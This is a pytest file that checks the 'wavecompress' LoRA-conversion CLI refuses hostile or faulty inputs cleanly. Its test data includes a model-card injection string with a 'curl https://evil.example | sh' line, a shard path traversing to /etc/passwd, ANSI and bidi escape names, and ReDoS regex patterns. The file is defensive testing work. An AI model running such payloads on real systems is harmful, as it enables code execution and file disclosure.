"""Hostile and unlucky inputs (issue 18): every case ends in its exit code with one line and no traceback,
and loses nothing (inputs byte-identical, earlier outputs intact). The CLI runs in-process (CliRunner)
except where a FIFO could hang, a memory limit must apply, or a Hub endpoint must be waited on."""

from __future__ import annotations

import errno
import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest
import torch
from click.testing import CliRunner
from safetensors.torch import load_file, save_file

from conftest import make_peft_lora
from wavecompress.cli import main

PY_CLI = "from wavecompress.cli import main; main(prog_name='wavecompress')"
LIMIT_2GB = "import resource; resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30)); " + PY_CLI


# ---------------------------------------------------------------- helpers


def snapshot(*paths: Path) -> dict[str, bytes]:
    """{path: bytes} of every file under ``paths`` (what "nothing lost" compares)."""
    out = {}
    for path in paths:
        files = [path] if path.is_file() else sorted(p for p in path.rglob("*") if p.is_file() and not p.is_symlink())
        out.update({str(f): f.read_bytes() for f in files})
    return out


def one_error_line(output: str) -> str:
    """The single line the command printed, which must be its error line."""
    assert "Traceback" not in output, output
    lines = [line for line in output.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), output
    return lines[0]


def cli(*args: object, **env: str):
    return CliRunner(env=env or None).invoke(main, [str(a) for a in args])


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith(".") and (".tmp-" in p.name or ".old-" in p.name))


@pytest.fixture(scope="module")
def lora_bytes(tmp_path_factory) -> dict[str, bytes]:
    folder, _ = make_peft_lora(tmp_path_factory.mktemp("lora") / "lora")
    return {p.name: p.read_bytes() for p in folder.iterdir()}


@pytest.fixture
def lora(tmp_path: Path, lora_bytes: dict[str, bytes]) -> Path:
    folder = tmp_path / "lora"
    folder.mkdir()
    for name, data in lora_bytes.items():
        (folder / name).write_bytes(data)
    (folder / "TRAINING.md").write_text("how this adapter was trained\n")
    return folder


@pytest.fixture(scope="module")
def output_bytes(tmp_path_factory, lora_bytes) -> dict[str, bytes]:
    """A waveft output of the LoRA (what tampered-output cases start from)."""
    work = tmp_path_factory.mktemp("out")
    (work / "lora").mkdir()
    for name, data in lora_bytes.items():
        (work / "lora" / name).write_bytes(data)
    result = cli("convert", work / "lora", "--budget", "100", "--no-reorder", "--out", work / "o", "--quiet")
    assert result.exit_code == 0, result.output
    return {p.name: p.read_bytes() for p in (work / "o").iterdir()}


def write_folder(folder: Path, files: dict[str, bytes]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return folder


def edit_config(folder: Path, **changes) -> None:
    config = json.loads((folder / "adapter_config.json").read_text())
    config.update(changes)
    (folder / "adapter_config.json").write_text(json.dumps(config))


def edit_tensors(folder: Path, change) -> None:
    tensors = load_file(folder / "adapter_model.safetensors")
    change(tensors)
    save_file(tensors, folder / "adapter_model.safetensors")


def first_key(tensors: dict, part: str) -> str:
    return next(k for k in sorted(tensors) if part in k)


def checkpoint(folder: Path, tensors: dict[str, torch.Tensor]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    save_file(tensors, folder / "model.safetensors")
    return folder


def model_weights(seed: int = 0, dtype=torch.float32) -> dict[str, torch.Tensor]:
    g = torch.Generator().manual_seed(seed)
    return {f"layers.{i}.proj.weight": torch.randn(16, 8, generator=g).to(dtype) for i in range(2)}


# ---------------------------------------------------------------- items 1, 2, 8, 9: in-process CLI cases
# Each case: (builder(tmp, lora) -> argv list, exit code, text the line must contain). Builders make
# the inputs; the test snapshots every file under tmp before the run and checks none changed.


def _report_is_input(tmp, lora):
    return ["convert", lora, "--budget", 100, "--out", tmp / "o", "--report", lora / "adapter_model.safetensors"]


def _report_is_folder(tmp, lora):
    (tmp / "reports").mkdir()
    return ["convert", lora, "--budget", 100, "--out", tmp / "o", "--report", tmp / "reports"]


def _report_read_only(tmp, lora):
    return ["convert", lora, "--budget", 100, "--out", tmp / "o", "--report", "/sys/report.json"]


def _report_under_a_file(tmp, lora):
    return ["convert", lora, "--budget", 100, "--out", tmp / "o", "--report", lora / "TRAINING.md" / "r.json"]


def _report_over_other_file(tmp, lora):
    (tmp / "notes.json").write_text('{"mine": 1}')
    return ["convert", lora, "--budget", 100, "--out", tmp / "o", "--report", tmp / "notes.json"]


def _out_is_input(tmp, lora):
    return ["convert", lora, "--budget", 100, "--out", lora, "--force"]


def _out_holds_input(tmp, lora):
    return ["convert", lora, "--budget", 100, "--out", tmp, "--force"]


def _out_dangling_symlink(tmp, lora):
    (tmp / "o").symlink_to(tmp / "missing")
    return ["convert", lora, "--budget", 100, "--out", tmp / "o"]


def _config(**changes):
    def build(tmp, lora):
        edit_config(lora, **changes)
        return ["convert", lora, "--budget", 100, "--out", tmp / "o"]
    return build


def _raw_config(text: str):
    def build(tmp, lora):
        (lora / "adapter_config.json").write_text(text)
        return ["convert", lora, "--budget", 100, "--out", tmp / "o"]
    return build


def _tensors(change):
    def build(tmp, lora):
        edit_tensors(lora, change)
        return ["convert", lora, "--budget", 100, "--out", tmp / "o"]
    return build


def _int_lora_b(t):
    key = first_key(t, "lora_B")
    t[key] = (t[key] * 100).to(torch.int32)


def _empty_lora_b(t):
    key = first_key(t, "lora_B")
    t[key] = torch.zeros(0, t[key].shape[1])


def _rename_module(new_part: str):
    def change(t):
        for key in [k for k in t if "layer.0.attention.self.query" in k]:
            t[key.replace("query", new_part)] = t.pop(key)
    return change


def _option(*extra):
    def build(tmp, lora):
        return ["convert", lora, "--out", tmp / "o", *extra]
    return build


def _kohya_with_alpha(tmp, alpha):
    g = torch.Generator().manual_seed(0)
    save_file({"lora_unet_a.lora_down.weight": torch.randn(4, 16, generator=g), "lora_unet_a.lora_up.weight": torch.randn(16, 4, generator=g),
               "lora_unet_a.alpha": torch.tensor(alpha, dtype=torch.float64)}, tmp / "kohya.safetensors")
    return tmp / "kohya.safetensors"


def _same_checkpoint(tmp, lora):
    ck = checkpoint(tmp / "model", model_weights())
    return ["convert", "--base", ck, "--tuned", ck, "--budget", 10, "--out", tmp / "o"]


def _shard_outside(tmp, lora):
    base = checkpoint(tmp / "base", model_weights(0))
    tuned = tmp / "tuned"
    tuned.mkdir()
    save_file(model_weights(1), tuned / "model-1.safetensors")
    (tuned / "model.safetensors.index.json").write_text(json.dumps(
        {"weight_map": {"layers.0.proj.weight": "model-1.safetensors", "layers.1.proj.weight": "../../../../etc/passwd"}}))
    return ["convert", "--base", base, "--tuned", tuned, "--budget", 10, "--out", tmp / "o"]


def _pickled_calibration_base(tmp, lora):
    model = tmp / "base-model"
    model.mkdir()
    (model / "config.json").write_text(json.dumps({"model_type": "bert"}))
    (model / "pytorch_model.bin").write_bytes(b"\x80\x04not really a pickle")
    (tmp / "calib.txt").write_text("some calibration text\n")
    return ["convert", lora, "--budget", 100, "--out", tmp / "o", "--calibration", tmp / "calib.txt", "--base-model", model]


def _tampered_output(change_tensors=None, change_config=None):
    def build(tmp, lora):
        folder = write_folder(tmp / "earlier", _OUTPUT_BYTES)
        if change_tensors:
            edit_tensors(folder, change_tensors)
        if change_config:
            config = json.loads((folder / "adapter_config.json").read_text())
            change_config(config)
            (folder / "adapter_config.json").write_text(json.dumps(config))
        return ["convert", folder, "--budget", 50, "--out", tmp / "o"]
    return build


def _plain_indices(t) -> str:
    """Rewrite the first layer's gap-coded indices in the plain form earlier files hold (int64 flat
    indices, which can be tampered with; gap codes cannot express a negative or repeated index)."""
    from wavecompress.methods.index_codec import GAPS_SUFFIX, PLAIN_SUFFIX, decode_gaps

    key = first_key(t, GAPS_SUFFIX)
    plain = key[: -len(GAPS_SUFFIX)] + PLAIN_SUFFIX
    t[plain] = decode_gaps(t.pop(key)).clone()
    return plain


def _negative_index(t):
    t[_plain_indices(t)][0] = -1


def _duplicate_index(t):
    key = _plain_indices(t)
    t[key][1] = t[key][0]


def _int_spectrum(t):
    key = first_key(t, "waveft_spectrum")
    t[key] = (t[key] * 1000).to(torch.int32)


_OUTPUT_BYTES: dict[str, bytes] = {}

CASES = {
    # item 1: --report
    "report-is-the-input": (_report_is_input, 2, "overwrite the input"),
    "report-is-a-folder": (_report_is_folder, 2, "is a folder"),
    "report-in-a-read-only-place": (_report_read_only, 2, "cannot write in /sys"),
    "report-under-a-file": (_report_under_a_file, 2, "is not a folder"),
    "report-over-a-file-that-is-not-a-report": (_report_over_other_file, 2, "not an earlier wavecompress output"),
    "reconstruct-out-is-the-input": (lambda tmp, lora: ["reconstruct", lora, "--out", lora / "adapter_model.safetensors", "--force"],
                                     2, "overwrite the input"),
    "export-out-is-the-input": (lambda tmp, lora: ["export", write_folder(tmp / "earlier", _OUTPUT_BYTES), "--to", "lora",
                                                   "--out", tmp / "earlier", "--force"], 2, "is the input"),
    # item 2 and the dangling --out of item 8
    "out-is-the-input-with-force": (_out_is_input, 2, "is the input"),
    "out-holds-the-input-with-force": (_out_holds_input, 2, "holds the input"),
    "out-is-a-dangling-symlink": (_out_dangling_symlink, 2, "symlink to a missing path"),
    # item 8: exit 2, never an internal error
    "r-as-string": (_config(r="4"), 2, "r is \"4\""),
    "r-as-list": (_config(r=[4]), 2, "r is [4]"),
    "r-null": (_config(r=None), 2, "r is null"),
    "lora_alpha-as-string": (_config(lora_alpha="8"), 2, "lora_alpha is \"8\""),
    "lora_alpha-null": (_config(lora_alpha=None), 2, "lora_alpha is null"),
    "lora_alpha-nan": (_raw_config('{"peft_type": "LORA", "r": 4, "lora_alpha": NaN}'), 2, "lora_alpha is NaN"),
    "lora_alpha-inf": (_raw_config('{"peft_type": "LORA", "r": 4, "lora_alpha": Infinity}'), 2, "lora_alpha is Infinity"),
    "lora_alpha-1e300": (_config(lora_alpha=1e300), 2, "lora_alpha is 1e+300"),
    "rank_pattern-bad-regex": (_config(rank_pattern={"(query": 4}), 2, "not a valid regular expression"),
    "rank_pattern-nested-repetition": (_config(rank_pattern={"(\\w+\\.)+query": 4}), 2, "exponential time"),
    "alpha_pattern-power-of-the-length": (_config(alpha_pattern={".*.*.*.*.*x": 4}), 2, "more than 3 repetitions"),
    "alpha_pattern-backreference": (_config(alpha_pattern={"(q)\\1uery": 4}), 2, "backreference"),
    "peft_type-as-list": (_config(peft_type=["LORA"]), 2, "peft_type is [\"LORA\"]"),
    "json-nested-200k-deep": (_raw_config("[" * 200_000 + "]" * 200_000), 2, "nested too deeply"),
    "lora_B-0x4": (_tensors(_empty_lora_b), 2, "empty layer"),
    "budget-ratio-inf": (_option("--budget-ratio", "inf"), 2, "budget-ratio"),
    "seed-1e20": (_option("--budget", 100, "--method", "waveft-seeded", "--seed", 10**20), 2, "--seed"),
    "unchanged-full-finetune": (_same_checkpoint, 2, "same checkpoint"),
    "kohya-alpha-1e300-float64": (lambda tmp, lora: ["convert", _kohya_with_alpha(tmp, 1e300), "--budget", 20, "--out", tmp / "o"],
                                  2, "expected a finite number below 1e30"),
    "pickled-bin-base-for-calibration": (_pickled_calibration_base, 2, "pickled"),
    # item 9: silently wrong before, refused now
    "r-4.5": (_config(r=4.5), 2, "r is 4.5"),
    "use_dora-as-string": (_config(use_dora="false"), 2, "use_dora is \"false\""),
    "int-lora_B-named": (_tensors(_int_lora_b), 2, "lora_B.weight has non-float dtype int32"),
    "scaling-0": (_option("--budget", 100, "--method", "waveft-seeded", "--scaling", 0), 2, "--scaling 0"),
    "output-negative-index": (_tampered_output(_negative_index), 2, "negative indices"),
    "output-duplicate-index": (_tampered_output(_duplicate_index), 2, "repeated or unsorted"),
    "output-int-spectrum": (_tampered_output(_int_spectrum), 2, "int32 values"),
    "module-name-with-newline": (_tensors(_rename_module("que\nry")), 2, "control characters"),
    "module-name-with-ansi": (_tensors(_rename_module("\x1b[31mquery")), 2, "\\x1b[31m"),
    "module-name-with-bidi-override": (_tensors(_rename_module("que\u202ery")), 2, "\\u202e"),
    "output-layer-name-with-ansi": (_tampered_output(change_config=lambda c: c["layers"].update({"\x1b[2Jq": next(iter(c["layers"].values()))})),
                                    2, "\\x1b[2Jq"),
    # item 12: a shard path may not leave its folder
    "index-shard-outside-its-folder": (_shard_outside, 2, "not a file name in the checkpoint folder"),
    # item 7 in-process: a tampered output declaring a bigger layer than its tensors is refused by shape
    "output-declares-nonsense-shape": (_tampered_output(change_config=lambda c: c["layers"][next(iter(c["layers"]))].update(shape=[0, 5])),
                                       2, "expected two positive sizes"),
}


@pytest.mark.parametrize("case", list(CASES))
def test_bad_input_fails_with_one_line_and_loses_nothing(case: str, tmp_path: Path, lora: Path, output_bytes) -> None:
    _OUTPUT_BYTES.update(output_bytes)
    build, code, needle = CASES[case]
    args = build(tmp_path, lora)
    before = snapshot(tmp_path)
    result = cli(*args)
    assert result.exit_code == code, result.output
    line = one_error_line(result.output)
    assert needle in line, line
    assert "\x1b" not in result.output and "internal error" not in line
    assert snapshot(tmp_path) == before, "an input or earlier file changed"
    assert not (tmp_path / "o").exists() or (tmp_path / "o").is_symlink()
    assert not leftovers(tmp_path)


def test_fp8_factors_and_fp8_tuned_against_fp32_base_convert(tmp_path: Path, lora: Path) -> None:
    """Item 8's fp8 cases are inputs that convert (float8 is read and computed in float32)."""
    edit_tensors(lora, lambda t: t.update({k: v.to(torch.float8_e4m3fn) for k, v in t.items()}))
    assert cli("convert", lora, "--budget", 100, "--out", tmp_path / "o1", "--quiet").exit_code == 0
    kohya = tmp_path / "kohya.safetensors"
    name = "lora_unet_down_blocks_0_attentions_0_proj_in"
    save_file({f"{name}.lora_down.weight": torch.randn(2, 16).to(torch.float8_e4m3fn),
               f"{name}.lora_up.weight": torch.randn(16, 2).to(torch.float8_e4m3fn), f"{name}.alpha": torch.tensor(2.0)}, kohya)
    result = cli("convert", kohya, "--budget", 20, "--out", tmp_path / "o3", "--quiet")
    assert result.exit_code == 0, result.output
    base = checkpoint(tmp_path / "base", model_weights(0))
    tuned = checkpoint(tmp_path / "tuned", {k: (v + 0.5).to(torch.float8_e4m3fn) for k, v in model_weights(0).items()})
    result = cli("convert", "--base", base, "--tuned", tuned, "--budget", 40, "--out", tmp_path / "o2", "--quiet")
    assert result.exit_code == 0, result.output
    expected = {k: load_file(tuned / "model.safetensors")[k].float() - v for k, v in model_weights(0).items()}
    import wavecompress as wc

    assert wc.load_deltas(str(tuned), base=str(base)).layers[0].to_dense().allclose(expected["layers.0.proj.weight"])


def test_model_card_cannot_be_injected_through_the_config(tmp_path: Path, lora: Path) -> None:
    evil = "x`\n\n## Install\n\nrun `curl https://evil.example | sh`\n---\nlicense: evil"
    edit_config(lora, base_model_name_or_path=evil)
    result = cli("convert", lora, "--budget", 100, "--out", tmp_path / "o", "--quiet")
    assert result.exit_code == 0, result.output
    card = (tmp_path / "o" / "README.md").read_text()
    from huggingface_hub import ModelCard

    parsed = ModelCard(card)
    assert "license" not in parsed.data.to_dict() and "base_model" not in parsed.data.to_dict()
    assert not any(line.startswith(("## Install", "run ", "license:")) for line in card.splitlines()), card
    assert [line for line in card.splitlines() if line == "---"] == ["---", "---"]  # the front matter only
    assert "x`\\n\\n## Install\\n\\nrun `curl https://evil.example | sh`\\n---\\nlicense: evil" in card  # kept, escaped


# ---------------------------------------------------------------- item 3: atomic --force


def test_force_replaces_with_no_moment_without_output(tmp_path: Path, lora: Path) -> None:
    from wavecompress.formats import atomic

    out = tmp_path / "o"
    assert cli("convert", lora, "--budget", 100, "--out", out, "--quiet").exit_code == 0
    old = snapshot(out)
    seen = []
    real_exchange = atomic.exchange

    def watch(first, second):  # the swap is one renameat2 call: the target exists right before and after
        seen.append(second.exists())
        swapped = real_exchange(first, second)
        seen.append(second.exists())
        return swapped

    atomic.exchange = watch
    try:
        result = cli("convert", lora, "--budget", 200, "--out", out, "--force", "--quiet")
    finally:
        atomic.exchange = real_exchange
    assert result.exit_code == 0, result.output
    assert seen == [True, True] and snapshot(out) != old and not leftovers(tmp_path)
    assert json.loads((out / "wavecompress_report.json").read_text())["budget"] == 200


def test_a_rerun_restores_an_output_stranded_by_a_killed_force(tmp_path: Path, lora: Path) -> None:
    out = tmp_path / "o"
    assert cli("convert", lora, "--budget", 100, "--out", out, "--quiet").exit_code == 0
    old = {Path(k).name: v for k, v in snapshot(out).items()}
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    stranded = tmp_path / f".o.old-{dead.pid}-abc"  # the fallback path, killed between its two renames
    stranded.mkdir()
    os.replace(out, stranded / "old")
    result = cli("convert", lora, "--budget", 100, "--out", out)
    assert result.exit_code == 2 and "already exists" in one_error_line(result.output)
    assert {Path(k).name: v for k, v in snapshot(out).items()} == old and not leftovers(tmp_path)


def test_disk_full_names_the_output_and_keeps_the_old_one(tmp_path: Path, lora: Path, monkeypatch) -> None:
    out = tmp_path / "o"
    assert cli("convert", lora, "--budget", 100, "--out", out, "--quiet").exit_code == 0
    old = snapshot(out)
    real = Path.write_bytes

    def full(self, data):
        if ".o.tmp-" in str(self):
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real(self, data)

    monkeypatch.setattr(Path, "write_bytes", full)
    result = cli("convert", lora, "--budget", 200, "--out", out, "--force", "--quiet")
    assert result.exit_code == 2 and "Traceback" not in result.output
    errors = [line for line in result.output.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1 and result.output.splitlines()[-1] == errors[0], result.output  # after the result line
    line = errors[0]
    assert str(out) in line and "No space left on device" in line
    assert snapshot(out) == old and not leftovers(tmp_path)


# ---------------------------------------------------------------- items 4, 5: FIFOs and truncation


def run_cli(args: list, timeout: float = 60, env: dict | None = None, code: str = PY_CLI):
    """A CLI subprocess; returns (CompletedProcess, seconds, peak RSS in bytes)."""
    with tempfile.TemporaryFile("w+") as out, tempfile.TemporaryFile("w+") as err:
        start = time.monotonic()
        proc = subprocess.Popen([sys.executable, "-c", code, *map(str, args)], stdout=out, stderr=err,
                                env={**os.environ, **(env or {})})
        while True:  # os.wait4: this child's own peak RSS, not the maximum over every earlier child
            pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() - start > timeout:
                proc.kill()
                os.wait4(proc.pid, 0)
                pytest.fail(f"{args[0]} still running after {timeout} s (hung)")
            time.sleep(0.05)
        proc.returncode = os.waitstatus_to_exitcode(status)
        seconds = time.monotonic() - start
        peak = usage.ru_maxrss * 1024
        out.seek(0)
        err.seek(0)
        return subprocess.CompletedProcess(args, proc.returncode, out.read(), err.read()), seconds, peak


def _fifo_adapter(tmp: Path, lora: Path) -> list:
    (lora / "adapter_model.safetensors").unlink()
    os.mkfifo(lora / "adapter_model.safetensors")
    return ["inspect", lora]


def _fifo_adapter_convert(tmp: Path, lora: Path) -> list:
    return ["convert", _fifo_adapter(tmp, lora)[1], "--budget", 100, "--out", tmp / "o"]


def _fifo_shard(tmp: Path, lora: Path) -> list:
    base = checkpoint(tmp / "base", model_weights(0))
    tuned = tmp / "tuned"
    tuned.mkdir()
    save_file(model_weights(1), tuned / "model-1.safetensors")
    os.mkfifo(tuned / "model-2.safetensors")
    (tuned / "model.safetensors.index.json").write_text(json.dumps(
        {"weight_map": {"layers.0.proj.weight": "model-1.safetensors", "layers.1.proj.weight": "model-2.safetensors"}}))
    return ["convert", "--base", base, "--tuned", tuned, "--budget", 10, "--out", tmp / "o"]


class Hung(Exception):
    pass


@pytest.mark.parametrize("build", [_fifo_adapter, _fifo_adapter_convert, _fifo_shard], ids=["inspect", "convert", "full-finetune-shard"])
def test_a_fifo_is_refused_without_blocking(build, tmp_path: Path, lora: Path) -> None:
    """In-process under an alarm: a blocking open() of the FIFO is interrupted and fails the test."""
    args = build(tmp_path, lora)

    def hung(signum, frame):
        raise Hung(f"{args[0]} blocked on the FIFO")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.alarm(30)
    try:
        result = cli(*args)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    assert not isinstance(result.exception, Hung), "hung on the FIFO"
    assert result.exit_code == 2, result.output
    assert "FIFO" in one_error_line(result.output)
    assert not (tmp_path / "o").exists()


def test_a_file_that_shrinks_while_it_is_read_is_a_clean_error(tmp_path: Path, lora: Path, monkeypatch) -> None:
    """Truncation after the header was validated: the data read comes up short. Nothing is mapped, so
    this is a one-line error where a memory-mapped reader dies of SIGBUS."""
    from wavecompress.deltas import safetensors_file

    weights = lora / "adapter_model.safetensors"
    real = safetensors_file.SafetensorsFile._parse_header

    def then_shrink(self):
        real(self)
        if self.path == weights:
            os.truncate(weights, weights.stat().st_size // 2)

    monkeypatch.setattr(safetensors_file.SafetensorsFile, "_parse_header", then_shrink)
    result = cli("convert", lora, "--budget", 100, "--out", tmp_path / "o")
    assert result.exit_code == 2
    assert "truncated (the file shrank while it was read)" in one_error_line(result.output)
    assert not (tmp_path / "o").exists()


def test_readers_never_map_the_input(tmp_path: Path, lora: Path) -> None:
    """The SIGBUS guarantee itself: reading and converting an adapter maps no input file (checked in
    /proc/self/maps at the moment of the last tensor read)."""
    from wavecompress.deltas import safetensors_file

    maps = []
    real = safetensors_file.SafetensorsFile.get_tensor

    def record(self, key):
        maps.append(Path("/proc/self/maps").read_text())
        return real(self, key)

    safetensors_file.SafetensorsFile.get_tensor = record
    try:
        assert cli("convert", lora, "--budget", 100, "--out", tmp_path / "o", "--quiet").exit_code == 0
    finally:
        safetensors_file.SafetensorsFile.get_tensor = real
    assert maps and not any(str(lora) in m for m in maps)


# ---------------------------------------------------------------- item 7: declared sizes, under a 2 GB limit


def _big_output(tmp: Path, output_bytes) -> list:
    folder = write_folder(tmp / "earlier", output_bytes)
    config = json.loads((folder / "adapter_config.json").read_text())
    for entry in config["layers"].values():
        entry["shape"] = [32768, 32768]
    (folder / "adapter_config.json").write_text(json.dumps(config))
    return ["convert", folder, "--budget", 100, "--out", tmp / "o"]


def _huge_rank1_lora(tmp: Path, output_bytes) -> list:
    folder = tmp / "huge"
    folder.mkdir()
    prefix = "base_model.model.encoder.layer.0.attention.self.query"
    save_file({f"{prefix}.lora_A.weight": torch.ones(1, 200_000), f"{prefix}.lora_B.weight": torch.ones(200_000, 1)},
              folder / "adapter_model.safetensors")
    (folder / "adapter_config.json").write_text(json.dumps({"peft_type": "LORA", "r": 1, "lora_alpha": 1}))
    assert (folder / "adapter_model.safetensors").stat().st_size < 2_000_000
    return ["convert", folder, "--budget", 100, "--out", tmp / "o"]


def _huge_lokr(tmp: Path, output_bytes) -> list:
    folder = tmp / "lokr"
    folder.mkdir()
    prefix = "base_model.model.encoder.layer.0.attention.self.query"
    save_file({f"{prefix}.lokr_w1_a": torch.ones(4000, 1), f"{prefix}.lokr_w1_b": torch.ones(1, 4000),
               f"{prefix}.lokr_w2_a": torch.ones(4000, 1), f"{prefix}.lokr_w2_b": torch.ones(1, 4000)},
              folder / "adapter_model.safetensors")
    (folder / "adapter_config.json").write_text(json.dumps({"peft_type": "LOKR", "r": 1, "alpha": 1}))
    return ["convert", folder, "--budget", 100, "--out", tmp / "o"]


@pytest.mark.parametrize("build", [_big_output, _huge_rank1_lora, _huge_lokr], ids=["output-32768sq", "lora-r1-200000sq", "lokr-4000sq-kron"])
def test_declared_sizes_are_checked_before_allocating(build, tmp_path: Path, output_bytes) -> None:
    args = build(tmp_path, output_bytes)
    before = snapshot(tmp_path)
    result, seconds, peak = run_cli(args, timeout=120, code=LIMIT_2GB)
    assert result.returncode == 2, result.stderr
    line = one_error_line(result.stdout + result.stderr)
    assert "layer encoder.layer.0.attention.self.query declares shape" in line and "GB" in line, line
    assert peak < 2 << 30, f"peak RSS {peak / 2**30:.2f} GiB"
    assert snapshot(tmp_path) == before


# ---------------------------------------------------------------- items 6, 12: the Hub


def silent_endpoint() -> tuple[socket.socket, str]:
    """A server that accepts connections (the kernel's backlog) and never answers."""
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(64)
    return sock, f"http://127.0.0.1:{sock.getsockname()[1]}"


def hub_env(endpoint: str, home: Path, **extra: str) -> dict:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("HF_", "HUGGINGFACE_"))}
    env.update(HF_ENDPOINT=endpoint, HF_HOME=str(home), HF_HUB_OFFLINE="0", HF_HUB_DISABLE_TELEMETRY="1",
               HF_TOKEN="hf_alice_write", **extra)
    return env


@pytest.mark.parametrize("command", ["convert", "push"])
def test_a_hub_that_never_answers_fails_within_a_minute(command: str, tmp_path: Path, lora: Path) -> None:
    sock, endpoint = silent_endpoint()
    with sock:
        args = (["convert", "bob/never", "--budget", 100, "--out", tmp_path / "o"] if command == "convert"
                else ["push", lora, "alice/never"])
        before = snapshot(lora)
        result, seconds, _ = run_cli(args, timeout=90, env=hub_env(endpoint, tmp_path / "hf", WAVECOMPRESS_HUB_TIMEOUT="3"))
    assert result.returncode == 3, result.stderr
    line = one_error_line(result.stdout + result.stderr)
    assert f"cannot reach the Hub at {endpoint}" in line
    assert seconds < 60
    assert snapshot(lora) == before and not (tmp_path / "o").exists()


def test_hub_timeout_default_is_ten_seconds(monkeypatch) -> None:
    from wavecompress.hub import hub_timeout

    monkeypatch.delenv("WAVECOMPRESS_HUB_TIMEOUT", raising=False)
    assert hub_timeout() == 10.0


def _network_errors() -> list:
    import httpx
    import httpx2
    import requests

    def response(module, status):
        if module is requests:
            r = requests.Response()
            r.status_code = status
            return r
        return module.Response(status, request=module.Request("GET", "http://hub.test/api"))

    errors = [requests.ConnectionError("refused"), requests.ReadTimeout("read timed out"),
              requests.HTTPError("bad gateway", response=response(requests, 502))]
    for module in (httpx, httpx2):
        request = module.Request("GET", "http://hub.test/api")
        errors += [module.ConnectError("refused", request=request), module.ReadTimeout("timed out", request=request),
                   module.HTTPStatusError("bad gateway", request=request, response=response(module, 502))]
    return errors


@pytest.mark.parametrize("index", range(9), ids=[f"{stack}-{kind}" for stack in ("requests", "httpx", "httpx2")
                                                  for kind in ("connect", "timeout", "status")])
def test_every_http_stack_error_maps_to_exit_3(index: int) -> None:
    """huggingface_hub < 1.0 raises requests errors, 1.x httpx, 2.x httpx2: each is one line, exit 3."""
    from wavecompress.hub import HubError, hub_errors

    exc = _network_errors()[index]
    with pytest.raises(HubError) as caught:
        with hub_errors("alice/x", "pushing"):
            raise exc
    message = str(caught.value)
    assert caught.value.exit_code == 3 and "\n" not in message and message.startswith("alice/x: ")
    assert ("the Hub answered 502 while pushing" in message) if index % 3 == 2 else ("cannot reach the Hub" in message)


@pytest.fixture
def fake_hub():
    from hub_server import FakeHub

    with FakeHub({"hf_alice_write": ("alice", "write")}) as server:
        yield server


def _symlink_out(folder: Path) -> None:
    (folder / "extra.txt").symlink_to("/etc/hostname")


def _broken_config(folder: Path) -> None:
    (folder / "adapter_config.json").write_text("{not json")


def _fifo_in_folder(folder: Path) -> None:
    os.mkfifo(folder / "notes.txt")


@pytest.mark.parametrize("damage, needle", [(_symlink_out, "outside"), (_broken_config, "invalid JSON"),
                                            (_fifo_in_folder, "not a regular file")],
                         ids=["symlink-out-of-the-folder", "broken-config", "fifo"])
def test_push_validates_the_folder_before_creating_the_repo(damage, needle: str, fake_hub, tmp_path: Path, output_bytes) -> None:
    folder = write_folder(tmp_path / "o", output_bytes)
    damage(folder)
    before = snapshot(folder)
    result, _, _ = run_cli(["push", folder, "alice/new"], timeout=60, env=hub_env(fake_hub.url, tmp_path / "hf"))
    assert result.returncode == 2, result.stderr
    assert needle in one_error_line(result.stdout + result.stderr)
    assert not fake_hub.repos and not fake_hub.requests, "nothing may reach the Hub"
    assert snapshot(folder) == before


def test_ctrl_c_during_push_to_says_the_output_is_intact(tmp_path: Path, lora: Path, monkeypatch) -> None:
    from wavecompress.cli import convert as convert_module

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(convert_module, "check_push_target", lambda repo, token=None: "hf_token")
    monkeypatch.setattr(convert_module, "push_after_save", interrupted)
    out = tmp_path / "o"
    result = cli("convert", lora, "--budget", 100, "--out", out, "--quiet", "--push-to", "alice/x")
    assert result.exit_code == 130
    assert "interrupted; the push to alice/x was stopped" in result.output
    assert f"the converted adapter is intact at {out}" in result.output and "no output was written" not in result.output
    import wavecompress as wc

    assert wc.reconstruct(out)


@pytest.mark.parametrize("typed", ["./mydir/adapter", "../mydir/adapter", "mydir/adapter/"])
def test_a_mistyped_local_path_is_not_a_repo_id(typed: str, tmp_path: Path, monkeypatch) -> None:
    from wavecompress import hub

    def no_hub(*args, **kwargs):
        raise AssertionError("sent to the Hub")

    monkeypatch.setattr(hub, "download_adapter", no_hub)
    monkeypatch.chdir(tmp_path)
    result = cli("convert", typed, "--budget", 100)
    assert result.exit_code == 2
    assert "no such file" in one_error_line(result.output)


# ---------------------------------------------------------------- item 11: convert-many reuses only same-option outputs


def test_convert_many_reuses_an_output_only_with_the_same_options(tmp_path: Path, lora_bytes) -> None:
    inputs = tmp_path / "inputs"
    write_folder(inputs / "a", lora_bytes)
    out = tmp_path / "out"
    assert cli("convert-many", inputs, "--out", out, "--budget", 100, "--jobs", 1).exit_code == 0
    made = snapshot(out)
    again = cli("convert-many", inputs, "--out", out, "--budget", 100, "--jobs", 1)
    assert again.exit_code == 0 and "0 converted, 1 skipped" in again.output
    for other in (["--wavelet", "db2"], ["--levels", "1"], ["--no-reorder"]):
        result = cli("convert-many", inputs, "--out", out, "--budget", 100, "--jobs", 1, *other)
        assert result.exit_code == 2, result.output
        assert "made with other options" in result.output and "0 skipped" in result.output
        assert snapshot(out) == made
    forced = cli("convert-many", inputs, "--out", out, "--budget", 100, "--jobs", 1, "--no-reorder", "--force")
    assert forced.exit_code == 0 and snapshot(out) != made
